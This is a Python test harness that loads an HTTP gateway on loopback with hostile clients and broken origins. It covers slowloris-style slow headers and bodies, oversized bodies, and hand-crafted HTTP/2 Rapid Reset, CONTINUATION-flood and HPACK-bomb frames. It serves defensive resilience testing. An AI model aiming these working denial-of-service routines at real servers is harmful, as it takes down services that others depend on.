"""What a hostile or broken peer does to the gateway: clients on one side, origins on the other. Loopback only."""

from __future__ import annotations

import asyncio
import ssl
import struct
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field

STEP_SECONDS = 0.5
ANSWER_SECONDS = 20


@dataclass
class Target:
    """
    The gateway under attack.

    Attributes:
        http: Its plain port.

        https: Its TLS port.

        until: When the attack ends, by `time.monotonic()`.

        seen: What was met: status codes, and words for what is none.
    """

    http: int
    https: int
    until: float
    seen: Counter[str] = field(default_factory=Counter)

    @property
    def over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() >= self.until

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        """Connect to the plain port; a failure is counted."""
        try:
            return await asyncio.wait_for(asyncio.open_connection("127.0.0.1", self.http), ANSWER_SECONDS)
        except (OSError, TimeoutError):
            self.seen["not connected"] += 1
            return None

    async def answer(self, reader: asyncio.StreamReader) -> None:
        """Read the status of an answer, and count it."""
        try:
            line = await asyncio.wait_for(reader.readline(), ANSWER_SECONDS)
        except (OSError, TimeoutError, ValueError) as error:
            self.seen["no answer" if isinstance(error, TimeoutError) else "closed"] += 1
            return
        words = line.split()
        self.seen[words[1].decode() if len(words) > 1 else "closed"] += 1


Attack = Callable[[Target], Awaitable[None]]
"""Attacks until the target's time is up."""


def many(count: int, one: Attack) -> Attack:
    """The same attack from many clients at a time."""

    async def attack(target: Target) -> None:
        await asyncio.gather(*(one(target) for _ in range(count)))

    return attack


async def _closing(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with suppress(OSError, TimeoutError, ssl.SSLError):
        await asyncio.wait_for(writer.wait_closed(), 1)


async def connections(target: Target) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """One connection to the plain port after the other, each closed after its use, until the time is up."""
    while not target.over:
        opened = await target.open()
        if not opened:
            await asyncio.sleep(STEP_SECONDS)
            continue
        yield opened
        await _closing(opened[1])


async def idle(target: Target) -> None:
    """Open a connection and say nothing; when it is closed, open the next."""
    async for reader, _writer in connections(target):
        with suppress(TimeoutError, OSError):
            await asyncio.wait_for(reader.read(1), max(0.1, target.until - time.monotonic()))
            target.seen["closed"] += 1


async def slow_head(target: Target) -> None:
    """Send a head byte by byte."""
    async for reader, writer in connections(target):
        reading = asyncio.ensure_future(target.answer(reader))
        head = b"GET /temps HTTP/1.1\r\nHost: plain.test\r\nX-Slow: " + b"a" * 1000
        for byte in head:
            writer.write(bytes([byte]))
            if reading.done() or target.over:
                break
            await asyncio.sleep(STEP_SECONDS)
        reading.cancel()


async def slow_body(target: Target) -> None:
    """Send a body byte by byte, to an operation that validates it."""
    head = b"POST /temps HTTP/1.1\r\nHost: validated.test\r\nContent-Type: application/json\r\nContent-Length: 50000\r\n\r\n"
    async for reader, writer in connections(target):
        reading = asyncio.ensure_future(target.answer(reader))
        writer.write(head + b"[")
        while not (reading.done() or target.over):
            writer.write(b" ")
            await asyncio.sleep(STEP_SECONDS)
        reading.cancel()


def head_of(fields: bytes) -> Attack:
    """Send a head with these fields again and again."""

    async def attack(target: Target) -> None:
        async for reader, writer in connections(target):
            with suppress(OSError):
                writer.write(b"GET /temps HTTP/1.1\r\nHost: plain.test\r\n" + fields + b"\r\n")
            await target.answer(reader)

    return attack


def huge_body(*, chunked: bool) -> Attack:
    """Send 1 GB to an operation whose body may have 1 MB, until the gateway answers."""
    length = b"Transfer-Encoding: chunked" if chunked else b"Content-Length: 1000000000"
    head = b"POST /temps HTTP/1.1\r\nHost: validated.test\r\nContent-Type: application/json\r\n" + length + b"\r\n\r\n"
    part = b" " * 65536
    piece = b"10000\r\n" + part + b"\r\n" if chunked else part

    async def attack(target: Target) -> None:
        async for reader, writer in connections(target):
            reading = asyncio.ensure_future(target.answer(reader))
            with suppress(OSError):
                writer.write(head)
                for _ in range(1_000_000_000 // len(part)):
                    writer.write(piece)
                    await writer.drain()
                    if reading.done() or target.over:
                        break
            with suppress(TimeoutError):
                await asyncio.wait_for(reading, 2)

    return attack


def get(host: str) -> Attack:
    """Ask for something, a connection for each request, as with an origin that does not answer as it should."""

    async def attack(target: Target) -> None:
        async for reader, writer in connections(target):
            writer.write(f"GET /temps HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            await target.answer(reader)
            with suppress(OSError, TimeoutError):
                await asyncio.wait_for(reader.read(), ANSWER_SECONDS)

    return attack


# HTTP/2, by hand: what a well-behaved library would not send.

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _CONTINUATION = 1, 3, 4, 9
_END_STREAM, _END_HEADERS = 1, 4


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    # Without indexing, a new name (RFC 7541 section 6.2.2); both are shorter than 127 bytes.
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


# :method GET and :scheme https are entries 2 and 7 of the static table.
_REQUEST = b"\x82\x87" + _literal(b":path", b"/temps") + _literal(b":authority", b"localhost")


async def _open_http2(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # the gateway's certificate is not what is tried here
    context.set_alpn_protocols(["h2"])
    try:
        opening = asyncio.open_connection("127.0.0.1", target.https, ssl=context, server_hostname="localhost")
        reader, writer = await asyncio.wait_for(opening, ANSWER_SECONDS)
    except (OSError, TimeoutError):
        target.seen["not connected"] += 1
        return None
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    return reader, writer


def http2(block: Callable[[int], bytes], name: str) -> Attack:
    """Send what `block` makes for each next stream until the gateway ends the connection, and open the next."""

    async def attack(target: Target) -> None:
        while not target.over:
            opened = await _open_http2(target)
            if not opened:
                await asyncio.sleep(STEP_SECONDS)
                continue
            reader, writer = opened
            ended = asyncio.ensure_future(reader.read(-1))
            stream = 1
            with suppress(OSError):
                while not (ended.done() or target.over):
                    writer.write(b"".join(block(number) for number in range(stream, stream + 200, 2)))
                    stream += 200
                    target.seen[name] += 100
                    await writer.drain()
                    await asyncio.sleep(0)
            target.seen["connections ended by the gateway"] += ended.done()
            ended.cancel()
            with suppress(asyncio.CancelledError, OSError):
                await ended
            await _closing(writer)

    return attack


def reset_stream(number: int) -> bytes:
    """A request that is cancelled at once (CVE-2023-44487)."""
    headers = _frame(_HEADERS, _END_STREAM | _END_HEADERS, number, _REQUEST)
    return headers + _frame(_RST_STREAM, 0, number, struct.pack(">I", 8))


def endless_headers(number: int) -> bytes:
    """A header block that never ends (CVE-2024-27316)."""
    more = _literal(b"x-more", b"a" * 120) * 100
    return (
        _frame(_HEADERS, 0, number, _REQUEST) + _frame(_CONTINUATION, 0, number, more) if number == 1 else _frame(_CONTINUATION, 0, 1, more)
    )


def bomb(number: int) -> bytes:
    """A long value put into the dynamic table once, and named hundreds of times by a byte each."""
    # With indexing (RFC 7541 section 6.2.1), a value of 3,966 bytes, whose length is 127 + 127 + 29 * 128; entry 62 from then on.
    long = b"\x40\x06x-bomb\x7f\xff\x1d" + b"a" * 3966
    return _frame(_HEADERS, _END_STREAM | _END_HEADERS, number, _REQUEST + long + b"\xbe" * 4000)


# Origins that do not do what an origin should.


async def origin(behaviour: str, port: int) -> asyncio.Server:
    """Listen and answer every request the wrong way: `stalls`, `dies` amid the body, or answers `garbage`."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            await reader.readuntil(b"\r\n\r\n")
            if behaviour == "stalls":
                await reader.read()
            elif behaviour == "dies":
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"a" * 1000)
                await writer.drain()
            else:
                writer.write(b"\x16\x03\x01 this is no HTTP \xff\r\n\r\n" * 100)
                await writer.drain()
        await _closing(writer)

    return await asyncio.start_server(serve, "127.0.0.1", port, backlog=4096)
